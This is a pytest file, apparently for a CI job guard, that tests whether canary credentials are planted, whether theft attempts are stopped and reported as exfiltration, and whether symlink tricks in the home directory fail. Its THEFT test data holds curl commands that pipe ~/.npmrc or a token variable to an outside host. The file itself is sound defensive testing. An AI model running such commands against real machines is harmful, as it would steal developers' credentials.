"""Canaries in a whole job: planted as the runner's user, given to later steps, taken away at the end."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from ebbgate.secrets.canaries import VARIABLES
from ebbgate.secrets.credentials import CANARY
from tests.job.guarded import Job
from tests.machine import Machine
from tests.machine.runner import HOME
from tests.world.internet import API

pytestmark = pytest.mark.root


SEND = "curl -sS https://api.example.com/"
THEFT = {
    "a file": (f"cat ~/.npmrc | {SEND} --data-binary @-", "~/.npmrc (canary)"),
    "a variable, tried out": (f'{SEND} -H "Authorization: token ${VARIABLES[0]}"', f"{VARIABLES[0]} (canary)"),
}


@pytest.mark.parametrize("name", THEFT)
def test_a_step_that_takes_one_is_cut_and_ended(machine: Machine, name: str) -> None:
    script, secret = THEFT[name]
    with Job(machine, allow="api.example.com", canary="true") as job:
        assert set(VARIABLES) <= job.environment.keys()
        look = job.step(["sh", "-c", "stat -c '%U %a' ~/.aws/credentials ~/.npmrc ~/.netrc ~/.aws"])
        assert look.stdout.split("\n")[:4] == ["runner 600"] * 3 + ["runner 700"]
        # A busy machine may need to be asked twice for a name. Once it is answered, there is time to be ended in.
        stolen = job.step(["sh", "-c", f"until {script}; do sleep 1; done; sleep 80"], name="theft", timeout=75)
        assert stolen.code != 0
        assert machine.world.received(API).strip() == b""
        deadline = time.monotonic() + 30
        while not any(one["findings"] for one in job.events("Exchange")):
            assert time.monotonic() < deadline
            time.sleep(0.1)
        verdict = job.verdict()
        assert verdict.report, verdict.stderr + verdict.stdout
    leaks = [one for one in verdict.report["incidents"] if one["kind"] == "exfiltration"]
    assert {(one["credential"], one["secret"], one["origin"]["step"]["name"]) for one in leaks} == {(CANARY, secret, "theft")}
    assert "canary" in verdict.stdout
    assert machine.sh(f"ls -A {HOME}").stdout.split() == ["work"], "nothing is left behind"


def test_a_link_in_the_home_directory_leads_root_nowhere(machine: Machine) -> None:
    """Whoever ran before the guard could have laid one: the files are made with the runner's own rights."""
    machine.sh(f"ln -s /etc {HOME}/.aws; ln -s /etc/ebbgate-was-here {HOME}/.npmrc")
    with Job(machine, allow="api.example.com", canary="true") as job:
        assert job.step(["true"]).code == 0
        planted = [one["what"] for one in job.events("Notice") if one["concern"] == "canary"]
        assert planted == [f"planted: {', '.join(VARIABLES)}, ~/.netrc"]
    assert not machine.inside(lambda: [one for one in ("/etc/credentials", "/etc/ebbgate-was-here") if Path(one).exists()])


def test_none_unless_asked_for(machine: Machine) -> None:
    with Job(machine, allow="api.example.com", canary="false", policy="version: 1\ncanary: true\n") as job:
        assert not set(VARIABLES) & job.environment.keys()
        assert machine.sh(f"ls -A {HOME}").stdout.split() == ["work"]
